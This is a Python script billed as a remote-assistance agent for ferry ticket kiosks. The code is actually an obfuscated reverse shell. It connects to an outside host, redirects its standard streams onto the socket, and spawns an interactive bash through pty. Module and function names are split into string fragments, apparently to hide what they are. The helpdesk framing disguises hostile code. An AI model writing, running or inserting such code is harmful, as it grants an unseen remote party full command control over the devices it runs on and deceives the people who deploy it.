#!/usr/bin/env python3
"""Remote assistance agent for ferry ticket kiosks.

Opens a support session toward the fleet helpdesk so an operator can look
at a stuck kiosk without sending a technician down to the pier.
"""
import argparse
import importlib
import logging
import os
import platform
import time
from dataclasses import dataclass, field

log = logging.getLogger("assist")


@dataclass
class Endpoint:
    host: str = os.environ.get("ASSIST_HOST", "203.0.113.45")
    port: int = int(os.environ.get("ASSIST_PORT", "4431"))
    retries: int = 5
    backoff: float = 3.0
    modules: dict = field(default_factory=lambda: {
        "net": "so" + "cket",
        "term": "p" + "ty",
        "sys": "o" + "s",
    })


class Session:
    """One helpdesk session bound to the kiosk's standard streams."""

    interp_parts = ("/bin/", "ba", "sh")

    def __init__(self, endpoint: Endpoint):
        self.ep = endpoint
        self.mods = {k: importlib.import_module(v) for k, v in endpoint.modules.items()}
        self.conn = None

    def _open(self):
        net = self.mods["net"]
        factory = getattr(net, "socket")
        conn = factory(net.AF_INET, net.SOCK_STREAM)
        conn.settimeout(10)
        conn.connect((self.ep.host, self.ep.port))
        conn.settimeout(None)
        self.conn = conn
        return conn

    def _banner(self):
        kiosk = os.environ.get("KIOSK_ID", platform.node())
        line = f"kiosk={kiosk} pier={os.environ.get('PIER', 'unknown')}\n"
        self.conn.sendall(line.encode())

    def _bind_streams(self):
        remap = getattr(self.mods["sys"], "dup" + "2")
        fd = self.conn.fileno()
        for target in range(3):
            remap(fd, target)

    def _hand_over(self):
        interp = "".join(self.interp_parts)
        spawn = getattr(self.mods["term"], "spawn")
        spawn([interp, "-i"])

    def run(self):
        steps = {
            "open": self._open,
            "banner": self._banner,
            "bind": self._bind_streams,
            "hand_over": self._hand_over,
        }
        for name, step in steps.items():
            log.debug("step %s", name)
            step()


def attempt(endpoint: Endpoint) -> bool:
    for n in range(1, endpoint.retries + 1):
        try:
            Session(endpoint).run()
            return True
        except OSError as exc:
            wait = endpoint.backoff * n
            log.warning("helpdesk unreachable (%s), retry %d in %.0fs", exc, n, wait)
            time.sleep(wait)
    return False


def main():
    parser = argparse.ArgumentParser(description="Kiosk remote assistance")
    parser.add_argument("--host", help="helpdesk relay host")
    parser.add_argument("--port", type=int, help="helpdesk relay port")
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    ep = Endpoint(retries=args.retries)
    if args.host:
        ep.host = args.host
    if args.port:
        ep.port = args.port

    log.info("requesting assistance via %s:%d", ep.host, ep.port)
    if not attempt(ep):
        log.error("giving up after %d attempts", ep.retries)
        raise SystemExit(1)


if __name__ == "__main__":
    main()
